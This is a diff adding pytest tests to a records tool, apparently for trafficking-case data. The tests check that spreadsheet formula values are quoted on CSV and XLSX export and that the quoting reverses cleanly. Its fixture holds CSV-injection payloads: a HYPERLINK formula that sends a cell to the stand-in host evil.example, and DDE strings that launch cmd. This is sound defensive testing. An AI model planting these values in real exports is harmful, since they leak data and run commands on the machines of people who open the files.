@@ -111,3 +111,120 @@ def test_ctdc_public_dataset_in_and_out(engine, write, tmp_path, text):
     assert second["isForcedLabour"] == "1" and second["typeOfLabourAgriculture"] == "1"
     again = import_file(engine, out, mapping="ctdc", source="CTDC", today=TODAY)
     assert again.rows_created == 0 and again.rows_updated == 0
+
+
+#: Identifying values that spreadsheets would run as formulas, and one real leading apostrophe.
+FORMULAS = {
+    "given_name": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "family_name": "+cmd|' /C calc'!A0",
+    "other_names": "'quoted by its owner",
+    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "phone": "-2+3",
+}
+
+
+def _plant_formulas(engine) -> None:
+    from sqlalchemy import select
+
+    from uncounted.store.db import session_scope
+    from uncounted.store.tables import Case, Person, PersonIdentity
+
+    with session_scope(engine) as s:
+        pid = s.scalar(select(Person.id).where(Person.external_id == "P1"))
+        ident = s.get(PersonIdentity, pid)
+        for name, value in FORMULAS.items():
+            setattr(ident, name, value)
+        s.scalar(select(Case).where(Case.external_id == "C1")).reference = "=1+2"
+
+
+def _identities(engine) -> dict[str, str]:
+    from sqlalchemy import select
+
+    from uncounted.store.db import session_scope
+    from uncounted.store.tables import Person, PersonIdentity
+
+    with session_scope(engine) as s:
+        ident = s.scalar(select(PersonIdentity).join(Person).where(Person.external_id == "P1"))
+        return {name: getattr(ident, name) for name in FORMULAS}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formulas_are_neutralised_and_round_trip(loaded, tmp_path, _template, fmt):
+    """Issue #15, item 7: ``=HYPERLINK(...)`` and ``+cmd|...`` went out verbatim (a live formula
+    in XLSX). Now they go out quoted, and export → import into an empty store → export changes
+    nothing, a real leading apostrophe included."""
+    import csv
+    import shutil
+
+    import openpyxl
+
+    from uncounted.ingest.records import LOAD_ORDER
+    from uncounted.store.db import make_engine
+
+    _plant_formulas(loaded)
+    first = tmp_path / "first"
+    export_records(loaded, first, "csv")
+    with (first / "persons.csv").open(newline="", encoding="utf-8") as handle:
+        p1 = next(r for r in csv.DictReader(handle) if r["external_id"] == "P1")
+    assert p1["given_name"] == "'" + FORMULAS["given_name"]
+    assert p1["family_name"] == "'" + FORMULAS["family_name"]
+    assert p1["other_names"] == "''quoted by its owner"
+    assert p1["birth_year"] == ""
+    with (first / "cases.csv").open(newline="", encoding="utf-8") as handle:
+        assert {r["reference"] for r in csv.DictReader(handle)} >= {"'=1+2"}
+    if fmt == "xlsx":
+        (book_path,) = export_records(loaded, tmp_path / "all.xlsx", "xlsx")
+        book = openpyxl.load_workbook(book_path)
+        cells = [c for row in book["persons"].iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula
+        assert "'" + FORMULAS["given_name"] in {c.value for c in cells}
+        files = [book_path]
+    else:
+        by_name = {p.stem: p for p in first.iterdir()}
+        files = [by_name[name] for name in LOAD_ORDER if name in by_name]
+    shutil.copyfile(_template, tmp_path / "fresh.sqlite")
+    fresh = make_engine(f"sqlite:///{tmp_path / 'fresh.sqlite'}")
+    for path in files:
+        result = import_file(fresh, path, today=TODAY)
+        assert result.rejected == [], result.rejected
+    assert _identities(fresh) == FORMULAS
+    second = tmp_path / "second"
+    export_records(fresh, second, "csv")
+    fresh.dispose()
+    _same_folders(first, second)
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd", "'+cmd"),
+        ("-cmd", "'-cmd"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'", "''"),
+        ("'ok", "''ok"),
+        ("''=x", "'''=x"),
+        ("-3", "-3"),  # numbers stay numbers
+        ("-1.5", "-1.5"),
+        ("+2", "+2"),
+        ("-1e5", "-1e5"),
+        ("-99", "-99"),
+        ("Ana", "Ana"),
+        ("", ""),
+    ],
+)
+def test_quote_rule_is_reversible(value, written):
+    from uncounted.ingest.formulas import quote_cell, unquote_cell
+
+    assert quote_cell(value) == written
+    assert unquote_cell(written) == value
+
+
+def test_apostrophe_of_other_files_is_data():
+    from uncounted.ingest.formulas import unquote_cell
+
+    assert unquote_cell("'hello") == "'hello"
+    assert unquote_cell("'-3") == "'-3"
+    assert unquote_cell("'=1") == "=1"
